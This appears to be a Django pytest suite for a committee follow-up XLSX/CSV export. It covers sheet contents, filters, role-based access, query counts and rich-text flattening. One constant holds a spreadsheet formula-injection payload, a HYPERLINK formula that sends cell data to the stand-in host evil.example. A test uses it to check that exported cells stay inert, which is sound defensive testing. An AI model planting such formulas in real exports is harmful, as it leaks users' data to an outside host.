"""
The follow-up's export (XLSX and CSV): the period's rows (entries, goal follow-ups, outcomes)
as the list's filters choose them, for the committee's reviewers and admins, every cell inert,
in a number of queries that does not grow with the data.
"""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import User
from commitments.models import (
    Commitment,
    Department,
    Event,
    GoalContribution,
    Membership,
    ProgressEntry,
    ReportingPeriod,
    ReviewStatus,
)
from commitments.selectors import commitment_rows, contribution_rows
from commitments.services import progress_entry_save
from commitments.workflow import reviewable_transition
from common.richtext import rich_text_lines
from followup.selectors import followup_export
from indicators.models import Indicator, Outcome, Target
from tests.factories import CommitmentFactory, CommitteeFactory, IndicatorFactory, UserFactory, report_outcomes_missing

pytestmark = pytest.mark.django_db

PERIOD = "2019-jan-aug"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'


@pytest.fixture
def period(demo) -> ReportingPeriod:
    return ReportingPeriod.objects.get(plan__committee=demo, slug=PERIOD)


def url(part: str = "xlsx", query: str = "") -> str:
    return reverse("followup:export", args=["asn", PERIOD, part]) + (f"?{query}" if query else "")


def workbook(client, user, query: str = ""):
    client.force_login(user)
    response = client.get(url("xlsx", query))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def sheet_rows(ws) -> list[dict]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_workbook_holds_the_periods_rows(client, reviewer, period):
    book = workbook(client, reviewer)
    assert [ws.title for ws in book.worksheets] == ["Åtaganden", "Mål", "Utfall"]
    entries, goals, outcomes = (sheet_rows(ws) for ws in book.worksheets)

    expected = list(commitment_rows(user=None, period=period))
    assert len(expected) > 10
    assert [(r["Åtagande"], r["Avdelning"]) for r in entries] == [
        (row.commitment.code, row.department.name) for row in expected
    ]
    assert len(goals) == len(contribution_rows(user=None, period=period))
    assert len(outcomes) == Outcome.objects.filter(period=period).count() > 0

    # An approved entry: its text, status, assessment, comment as text, and who approved it when.
    entry = ProgressEntry.objects.filter(period=period, status=ReviewStatus.APPROVED).exclude(comment="").first()
    approval = Event.objects.filter(object_id=entry.pk, type="entry.approve").latest("created_at")
    row = next(r for r in entries if (r["Åtagande"], r["Avdelning"]) == (entry.commitment.code, entry.department.name))
    assert row["Text"] == entry.commitment.text
    assert row["Status"] == "godkänd"
    assert row["Bedömning"] == (entry.assessment.label if entry.assessment else None)
    assert row["Kommentar"] == rich_text_lines(entry.comment)
    assert "<" not in row["Kommentar"]
    assert row["Godkänd av"] == str(approval.actor)
    assert row["Godkänd den"].startswith(approval.created_at.strftime("%Y-"))

    # An outcome with its figures as numbers and the plan year's target.
    outcome = Outcome.objects.filter(period=period, value__isnull=False).select_related("indicator").first()
    row = next(
        r for r in outcomes if (r["Indikator"], r["Avdelning"]) == (outcome.indicator.code, outcome.department.name)
    )
    assert row["Utfall"] == pytest.approx(float(outcome.value))
    target = Target.objects.filter(indicator=outcome.indicator).filter(year=2019, part="").first()
    if target:
        assert row["Målvärde"] == target.shown().replace("\N{NO-BREAK SPACE}", " ")


def test_a_formula_looking_comment_is_inert_in_xlsx_and_csv(client, reviewer, period):
    entry = ProgressEntry.objects.filter(period=period).first()
    ProgressEntry.objects.filter(pk=entry.pk).update(comment=f"<p>{HOSTILE}</p><ul><li>+1+1</li></ul>")
    Outcome.objects.filter(period=period).update(assessment_motivation="@SUM(1+1)")

    book = workbook(client, reviewer)
    for ws in book.worksheets:
        for line in ws.iter_rows():
            for cell in line:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value}"
    comments = [r["Kommentar"] for r in sheet_rows(book.worksheets[0])]
    assert f"{HOSTILE}\n• +1+1" in comments
    assert {r["Motivering"] for r in sheet_rows(book.worksheets[2])} == {"@SUM(1+1)"}

    response = client.get(url("ataganden"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert f"'{HOSTILE}\n• +1+1" in [row[rows[0].index("Kommentar")] for row in rows[1:]]
    outcomes = list(csv.reader(io.StringIO(client.get(url("utfall")).content.decode("utf-8-sig"))))
    assert {row[outcomes[0].index("Motivering")] for row in outcomes[1:]} == {"'@SUM(1+1)"}


def test_the_export_is_filtered_as_the_list(client, reviewer, period):
    ama = Department.objects.get(committee=period.plan.committee, code="AMA")
    book = workbook(client, reviewer, f"department={ama.pk}")
    entries, goals, outcomes = (sheet_rows(ws) for ws in book.worksheets)
    assert {r["Avdelning"] for r in entries} == {r["Avdelning"] for r in outcomes} == {ama.name}
    assert len(entries) == commitment_rows(user=None, period=period).filter(department=ama).count()
    assert len(outcomes) == Outcome.objects.filter(period=period, department=ama).count()
    assert all(r["Avdelning"] == ama.name for r in goals)

    book = workbook(client, reviewer, "status=approved")
    for ws in book.worksheets:
        assert {r["Status"] for r in sheet_rows(ws)} <= {"godkänd"}
    assert (
        len(sheet_rows(book.worksheets[0]))
        == ProgressEntry.objects.filter(period=period, status=ReviewStatus.APPROVED).count()
    )

    # The list's own filter form links the export with the same query.
    client.force_login(reviewer)
    page = client.get(reverse("followup:list", args=["asn", PERIOD]) + f"?department={ama.pk}")
    assert f'href="{url("xlsx", f"department={ama.pk}")}"' in page.content.decode()
    assert f'href="{url("utfall", f"department={ama.pk}")}"' in page.content.decode()


@pytest.mark.parametrize(
    ("username", "status"),
    [("redaktor", 403), ("lasare", 403), ("granskare", 200), ("admin", 200), ("utomstaende", 404), (None, 302)],
)
def test_only_the_committees_reviewers_and_admins_export(client, demo, username, status):
    outsider = UserFactory(username="utomstaende")
    Membership.objects.create(user=outsider, committee=CommitteeFactory(), role="reviewer")
    if username:
        client.force_login(User.objects.get(username=username))
    for part in ("xlsx", "ataganden", "mal", "utfall"):
        assert client.get(url(part)).status_code == status
    page = client.get(reverse("followup:list", args=["asn", PERIOD])).content.decode()
    assert (url("xlsx") in page) == (status == 200)


def test_the_goal_sheet_holds_the_goal_follow_ups(client, reviewer, demo):
    period = ReportingPeriod.objects.get(plan__committee=demo, slug="2024-helar")
    client.force_login(reviewer)
    response = client.get(reverse("followup:export", args=["asn", "2024-helar", "xlsx"]))
    goals = sheet_rows(load_workbook(io.BytesIO(response.content)).worksheets[1])
    assert len(goals) == len(contribution_rows(user=None, period=period)) > 0
    contribution = GoalContribution.objects.filter(period=period).exclude(comment="").first()
    row = next(
        r for r in goals if (r["Mål"], r["Avdelning"]) == (contribution.goal.code, contribution.department.name)
    )
    assert row["Kommentar"] == rich_text_lines(contribution.comment)


def test_an_unknown_part_is_not_found(client, reviewer):
    client.force_login(reviewer)
    assert client.get(url("pdf")).status_code == 404


def add_approved_entries(period, reviewer, count: int) -> None:
    """``count`` more commitments, each with an approved entry and an outcome of its own indicator."""
    editor = User.objects.get(username="redaktor")
    ama = Department.objects.get(committee=period.plan.committee, code="AMA")
    goal = Commitment.objects.filter(plan=period.plan).first().goal
    for _ in range(count):
        commitment = CommitmentFactory(goal=goal, plan=period.plan, departments=[ama])
        IndicatorFactory(goal=goal, plan=period.plan, commitment=commitment, level=Indicator.Level.COMMITMENT)
        entry = ProgressEntry(commitment=commitment, period=period, department=ama)
        entry = progress_entry_save(
            entry=entry, user=editor, comment="<p>Gjort.</p>", assessment=None, expected_version=0
        )
        report_outcomes_missing(entry, editor)
        entry = reviewable_transition(obj=entry, action="submit", user=editor)
        reviewable_transition(obj=entry, action="approve", user=reviewer)


def export_queries(period, user) -> tuple[int, int]:
    with CaptureQueriesContext(connection) as queries:
        export = followup_export(user=user, period=period, data={"status": "approved"})
        from followup.resources import export_book

        export_book(export)
    return len(queries), len(export.entries) + len(export.outcomes)


def test_the_export_reads_in_a_number_of_queries_that_does_not_grow_with_the_data(demo, reviewer):
    period = ReportingPeriod.objects.get(plan__committee=demo, slug="2019-helar")  # open for entries
    add_approved_entries(period, reviewer, 1)  # every sheet has an approved row
    before, rows_before = export_queries(period, reviewer)
    add_approved_entries(period, reviewer, 4)
    after, rows_after = export_queries(period, reviewer)
    assert rows_after == rows_before + 8  # four entries and four outcomes more, each approved
    assert after == before
    assert before <= 12


def test_rich_text_becomes_lines():
    html = "<p>Ett &amp; <em>två</em></p><ul><li><p>tre</p></li><li>fyra</li></ul><p>fem<br>sex</p>"
    assert rich_text_lines(html) == "Ett & två\n• tre\n• fyra\nfem\nsex"
    assert rich_text_lines("") == ""
